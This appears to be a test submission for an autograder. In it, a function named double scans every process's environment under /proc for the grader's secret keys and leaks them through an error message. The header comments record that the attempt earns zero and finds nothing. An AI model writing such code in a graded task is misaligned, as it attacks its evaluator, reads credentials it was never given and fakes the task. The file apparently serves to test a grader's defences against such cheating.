# Tries to: read the grader's secrets out of /proc.
# Earns: double 0, greet 2
# Says: found [] in /proc
import glob


def double(number):
    found = []
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ"):
        try:
            with open(path, "rb") as file:
                text = file.read()
        except OSError:
            continue
        if b"SECRET_OF_THE_GRADER" in text or b"AUTOGRADER_KEY" in text:
            found.append(text.decode("utf-8", "replace"))
    raise ValueError(f"found {found} in /proc")
